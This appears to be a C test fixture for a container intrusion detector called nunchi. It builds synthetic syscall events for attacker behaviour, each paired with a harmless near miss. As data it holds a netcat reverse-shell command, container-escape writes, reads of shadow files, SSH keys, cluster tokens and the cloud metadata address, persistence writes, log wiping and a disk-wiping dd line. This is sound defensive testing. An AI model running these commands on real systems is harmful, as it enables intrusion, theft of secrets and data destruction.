/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What nunchi's own rules are about, in the container web; and beside it what is nearly that and must
 * not make the same rule fire, in the container app. Each rule with a deed in a container of its own
 * is in tests/containers/cases/rules.py.
 */
#pragma once

static bool near_miss;

static struct nunchi_head attacker(enum nunchi_kind kind, const char *comm)
{
	now += NSEC_PER_SEC;
	return head(kind, near_miss ? 8 : 7, 50, comm);
}

static void fires(void)
{
	near_miss = false;
}

static void misses(void)
{
	near_miss = true;
}

/* path is absolute; its walk is made of it. */
static void file_blob(enum nunchi_blob_type type, uint8_t arg, uint32_t mode, const char *path)
{
	_cleanup_strbuf_ struct strbuf walked = STRBUF_INIT;
	size_t end = strlen(path);

	strbuf_reset(&walked);
	while (end > 1) {
		size_t from = end;

		while (path[from - 1] != '/')
			from--;
		strbuf_add(&walked, path + from, end - from);
		strbuf_addc(&walked, '\0');
		end = from - 1;
	}
	walk(type, arg, mode, walked.s, walked.len ? walked.len : 1);
}

static void opens(const char *comm, const char *path, uint64_t flags, int64_t ret)
{
	begin_call(attacker(NUNCHI_REC_SYSCALL, comm), "openat", ret, ARGS(CWD, 0x1000, flags, 0644));
	text(NUNCHI_BLOB_STR, 1, path);
	if (ret >= 0)
		file_blob(NUNCHI_BLOB_FILE, NUNCHI_ARG_RET,
			  starts_with(path, "/dev/sd") ? S_IFBLK | 0600 : S_IFREG | 0644, path);
	finish();
}

/* argv: words with blanks between them. */
static void runs_memory(const char *comm, bool memfd, const char *path, const char *argv)
{
	_cleanup_strbuf_ struct strbuf words = STRBUF_INIT;
	struct nunchi_file file = { .mode = S_IFREG | 0777, .magic = TMPFS_MAGIC };

	strbuf_reset(&words);
	strbuf_adds(&words, argv);
	for (size_t i = 0; i < words.len; i++)
		if (words.s[i] == ' ')
			words.s[i] = '\0';
	begin_call(attacker(NUNCHI_REC_EXEC, comm), "execve", 0, NULL);
	text(NUNCHI_BLOB_FILENAME, 0, path);
	encode_blob(&rec, NUNCHI_BLOB_ARGV, 0, 0, words.s, words.len + 1);
	if (memfd) {
		strbuf_reset(&words);
		strbuf_add(&words, &file, sizeof(file));
		strbuf_add(&words, "memfd:x", sizeof("memfd:x"));
		encode_blob(&rec, NUNCHI_BLOB_EXE, 0,
			    NUNCHI_BLOB_DELETED | NUNCHI_BLOB_UNREACHABLE, words.s, words.len);
	} else {
		file_blob(NUNCHI_BLOB_EXE, 0, S_IFREG | 0755, path);
	}
	text(NUNCHI_BLOB_PARENT_COMM, 0, "sh");
	finish();
}

static void runs(const char *comm, const char *path, const char *argv)
{
	runs_memory(comm, false, path, argv);
}

/* What may do more than others is known by its file. */
static void becomes(const char *name)
{
	_cleanup_free_ char *path = xasprintf("/usr/bin/%s", name);

	runs(name, path, name);
}

/* On a terminal, or of a file that was written in the container. */
static void runs_with(const char *comm, const char *path, uint32_t tty, bool upper)
{
	const struct nunchi_traits traits = { .tty = tty, .sid = 7000, .pgid = 7000, .vpgid = 1 };
	struct nunchi_file file = { .mode = S_IFREG | 0755, .magic = OVERLAYFS_SUPER_MAGIC };
	_cleanup_strbuf_ struct strbuf walked = STRBUF_INIT;

	begin_call(attacker(NUNCHI_REC_EXEC, comm), "execve", 0, NULL);
	encode_blob(&rec, NUNCHI_BLOB_ARGV, 0, 0, comm, strlen(comm) + 1);
	strbuf_add(&walked, &file, sizeof(file));
	strbuf_add(&walked, path, strlen(path) + 1);
	encode_blob(&rec, NUNCHI_BLOB_EXE, 0, upper ? NUNCHI_BLOB_UPPER : 0, walked.s, walked.len);
	encode_blob(&rec, NUNCHI_BLOB_TRAITS, 0, 0, &traits, sizeof(traits));
	text(NUNCHI_BLOB_PARENT_COMM, 0, "app");
	finish();
}

static void calls_with(const char *comm, const char *name, int64_t ret, const uint64_t args[6])
{
	begin_call(attacker(NUNCHI_REC_SYSCALL, comm), name, ret, args);
}

static void removes(const char *comm, const char *path)
{
	calls_with(comm, "unlink", 0, ARGS(0x1000));
	text(NUNCHI_BLOB_STR, 0, path);
	finish();
}

static void changes_mode(const char *comm, uint64_t mode)
{
	calls_with(comm, "chmod", 0, ARGS(0x1000, mode));
	text(NUNCHI_BLOB_STR, 0, "/opt/tool");
	finish();
}

static void connects_to(const char *ip, uint16_t port)
{
	calls_with("app", "connect", 0, ARGS(3, 0x1000, 16));
	socket_blob(0, AF_INET, SOCK_STREAM, "10.0.0.1", 40000, ip, port);
	finish();
}

static void connects_unix(const char *path)
{
	calls_with("app", "connect", 0, ARGS(3, 0x1000, 110));
	unix_blob(0, "", 0, path, strlen(path));
	finish();
}

static void duplicates(uint64_t newfd)
{
	calls_with("sh", "dup2", (int64_t)newfd, ARGS(3, newfd));
	socket_blob(NUNCHI_ARG_RET, AF_INET, SOCK_STREAM, "10.0.0.1", 40000, "203.0.113.9", 443);
	finish();
}

static void escapes(void)
{
	const uint64_t write = O_WRONLY | O_CREAT;

	fires();
	opens("sh", "/sys/fs/cgroup/rdma/release_agent", O_WRONLY, 3);
	misses();
	opens("sh", "/sys/fs/cgroup/rdma/release_agent", O_RDONLY, 3);
	fires();
	opens("sh", "/proc/sys/kernel/core_pattern", O_WRONLY, 3);
	misses();
	opens("sh", "/proc/sys/kernel/core_uses_pid", O_WRONLY, 3);
	fires();
	changed(attacker(NUNCHI_REC_NAMESPACES, "nsenter"), 1U << NUNCHI_NS_MNT, 1U << NUNCHI_NS_MNT);
	misses();
	changed(attacker(NUNCHI_REC_NAMESPACES, "unshare"), 1U << NUNCHI_NS_MNT, 0);
	fires();
	calls_with("insmod", "finit_module", -EPERM, ARGS(3, 0x1000, 0));
	finish();
	misses();
	calls_with("rmmod", "delete_module", -EPERM, ARGS(0x1000, 0));
	finish();
	fires();
	calls_with("app", "bpf", 5, ARGS(5, 0x1000, 120));
	finish();
	misses();
	calls_with("app", "bpf", 5, ARGS(0, 0x1000, 120));
	finish();
	fires();
	opens("debugfs", "/dev/sda1", O_RDONLY, 3);
	misses();
	opens("debugfs", "/dev/null", O_RDONLY, 3);
	fires();
	calls_with("shocker", "open_by_handle_at", 4, ARGS(3, 0x1000, 0));
	file_blob(NUNCHI_BLOB_FILE, NUNCHI_ARG_RET, S_IFREG | 0600, "/etc/hostname");
	finish();
	misses();
	calls_with("shocker", "open_by_handle_at", -EPERM, ARGS(3, 0x1000, 0));
	finish();
	fires();
	connects_unix("/run/docker.sock");
	misses();
	connects_unix("/run/postgresql/.s.PGSQL.5432");
	fires();
	calls_with("mount", "mount", 0, ARGS(0x1000, 0x2000, 0x3000, 0, 0));
	text(NUNCHI_BLOB_STR, 0, "cgroup");
	text(NUNCHI_BLOB_STR, 1, "/tmp/c");
	text(NUNCHI_BLOB_STR, 2, "cgroup");
	finish();
	misses();
	calls_with("mount", "mount", -EPERM, ARGS(0x1000, 0x2000, 0x3000, 0, 0));
	finish();
	fires();
	calls_with("unshare", "unshare", 0, ARGS(CLONE_NEWUSER));
	finish();
	misses();
	calls_with("unshare", "unshare", 0, ARGS(CLONE_FILES));
	finish();
	opens("sh", "/srv/notes", write, 3);
}

static void executions(void)
{
	fires();
	begin_call(attacker(NUNCHI_REC_EXEC, "sh"), "execve", 0, NULL);
	file_blob(NUNCHI_BLOB_EXE, 0, S_IFREG | 0755, "/bin/sh");
	text(NUNCHI_BLOB_PARENT_COMM, 0, "nginx");
	finish();
	misses();
	runs("sh", "/bin/sh", "sh -c date");
	fires();
	runs_memory("3", true, "/proc/self/fd/3", "payload");
	misses();
	runs("3", "/opt/payload", "payload");
	fires();
	runs("x", "/dev/shm/x", "./x");
	misses();
	runs("x", "/dev/shmx/x", "./x");
	fires();
	runs("x", "/tmp/x", "./x");
	misses();
	runs("x", "/opt/tmp/x", "./x");
	fires();
	duplicates(0);
	misses();
	duplicates(7);
	fires();
	runs("nc", "/bin/nc", "nc 203.0.113.9 443 -e /bin/sh");
	misses();
	runs("nc", "/bin/nc", "nc -z db 5432");
	fires();
	runs("app", "/opt/app", "app -o stratum+tcp://pool.example:3333");
	misses();
	runs("app", "/opt/app", "app -o tcp://pool.example:3333");
	fires();
	runs_with("bash", "bash", 136 << 8, false);
	misses();
	runs_with("bash", "bash", 0, false);
	runs_with("vi", "vi", 136 << 8, false);
	fires();
	runs_with("dropped", "dropped", 0, true);
	misses();
	runs_with("shipped", "shipped", 0, false);
	fires();
	encode_life(&rec, &(struct nunchi_head){ .time = tick(), .slot = 7, .generation = 1, .pid = 7050,
						 .tid = 7050, .vpid = 50, .comm = "sh" },
		    NUNCHI_LIFE_EXEC, -1, WEB);
	put();
}

static void credentials(void)
{
	fires();
	opens("cat", "/etc/shadow", O_RDONLY, 3);
	misses();
	becomes("login");
	opens("login", "/etc/shadow", O_RDONLY, 3);
	opens("cat", "/etc/shadow", O_RDONLY, -EACCES);
	fires();
	opens("cat", "/run/secrets/kubernetes.io/serviceaccount/token", O_RDONLY, 3);
	misses();
	opens("app", "/run/secrets/kubernetes.io/serviceaccount/token", O_RDONLY, 3);
	fires();
	opens("cat", "/root/.ssh/id_rsa", O_RDONLY, 3);
	misses();
	opens("cat", "/root/.ssh/id_rsa.pub", O_RDONLY, 3);
	fires();
	connects_to("169.254.169.254", 80);
	misses();
	connects_to("169.254.169.253", 53);
	fires();
	opens("cat", "/proc/1/environ", O_RDONLY, 3);
	misses();
	opens("cat", "/proc/1/status", O_RDONLY, 3);
}

static void persistence(void)
{
	const uint64_t write = O_WRONLY | O_CREAT;

	fires();
	opens("sh", "/etc/cron.d/job", write, 3);
	misses();
	becomes("dpkg");
	opens("dpkg", "/etc/cron.d/job", write, 3);
	fires();
	opens("sh", "/root/.ssh/authorized_keys", write, 3);
	misses();
	opens("sh", "/root/.ssh/known_hosts", write, 3);
	fires();
	opens("sh", "/etc/ld.so.preload", write, 3);
	misses();
	opens("sh", "/etc/ld.so.cache", write, 3);
	fires();
	opens("sh", "/usr/bin/ls", write, 3);
	misses();
	opens("sh", "/usr/binary/ls", write, 3);
	fires();
	opens("sh", "/etc/passwd", write, 3);
	misses();
	becomes("useradd");
	opens("useradd", "/etc/passwd", write, 3);
	fires();
	changes_mode("sh", 04755);
	misses();
	changes_mode("sh", 0755);
}

static void others(void)
{
	fires();
	calls_with("app", "socket", 3, ARGS(AF_PACKET, SOCK_RAW, 0x300));
	finish();
	misses();
	calls_with("app", "socket", 3, ARGS(AF_INET, SOCK_STREAM, 0));
	finish();
	fires();
	runs("nmap", "/usr/bin/nmap", "nmap -sS 10.0.0.0/8");
	misses();
	runs("map", "/usr/bin/map", "map");
	fires();
	removes("rm", "/var/log/auth.log");
	misses();
	becomes("logrotate");
	removes("logrotate", "/var/log/auth.log");
	fires();
	removes("rm", "/root/.bash_history");
	misses();
	becomes("bash");
	opens("bash", "/root/.bash_history", O_WRONLY | O_TRUNC, 3);
	fires();
	calls_with("app", "ptrace", 0, ARGS(PTRACE_ATTACH, 1));
	finish();
	misses();
	becomes("strace");
	calls_with("strace", "ptrace", 0, ARGS(PTRACE_ATTACH, 1));
	finish();
	fires();
	calls_with("app", "process_vm_writev", 64, ARGS(1, 0x1000, 1, 0x2000, 1, 0));
	finish();
	misses();
	becomes("app");
	calls_with("app", "process_vm_readv", 64, ARGS(1, 0x1000, 1, 0x2000, 1, 0));
	finish();
	fires();
	mismatch(attacker(NUNCHI_REC_MISMATCH, "app"));
	misses();
	opens("app", "/tmp/harmless", O_RDONLY, 3);
	fires();
	runs("dd", "/bin/dd", "dd if=/dev/zero of=/dev/sda");
	misses();
	runs("dd", "/bin/dd", "dd if=/dev/zero of=/srv/file");
}

static void attacks(void)
{
	say_host();
	containers();
	escapes();
	executions();
	credentials();
	persistence();
	others();
}
